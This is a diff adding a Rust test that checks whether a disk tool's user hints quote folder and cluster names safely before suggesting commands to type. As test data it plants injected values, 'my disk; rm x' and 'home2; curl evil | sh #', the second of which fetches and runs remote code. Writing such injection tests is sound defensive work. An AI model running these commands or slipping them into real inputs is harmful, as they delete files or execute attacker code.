@@ -67,6 +67,31 @@ fn a_second_disk_joins_a_cluster_by_its_id() {
     assert_ne!(first.disk_id(), second.disk_id());
 }
 
+/// A disk may come from anybody, and its folder may be called anything.
+#[test]
+fn what_is_to_be_typed_is_safe_to_type() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("my disk; rm x");
+    DiskFolder::create(&root, "home", None).unwrap();
+    let hint_of = |result: anyhow::Result<DiskFolder>| {
+        let error = result.err().expect("refused").downcast::<UserError>().expect("for the user");
+        (error.exit, error.hint.expect("a hint"))
+    };
+    let typed = format!("'{}'", root.display());
+    let (exit, hint) = hint_of(DiskFolder::open(&root, Some("work")));
+    assert_eq!((exit, hint), (Exit::WrongCluster, format!("to use it: delugefs run home {typed}")));
+    let toml = fs::read_to_string(root.join(DISK_TOML)).unwrap();
+    fs::write(root.join(DISK_TOML), toml.replace("home", "home2; curl evil | sh #")).unwrap();
+    for expected in [None, Some("home")] {
+        let (exit, hint) = hint_of(DiskFolder::open(&root, expected));
+        assert!(exit == Exit::BadDisk && !hint.contains("curl"), "{hint}");
+    }
+    fs::write(root.join(DISK_TOML), toml).unwrap();
+    fs::remove_dir_all(root.join(disk::DATA)).unwrap();
+    fs::write(root.join(disk::DATA), "").unwrap();
+    assert!(hint_of(DiskFolder::open(&root, None)).1.contains(&format!("ls -l {typed};")));
+}
+
 #[test]
 fn refusals_say_why_and_touch_nothing() {
     let dir = tempfile::tempdir().unwrap();
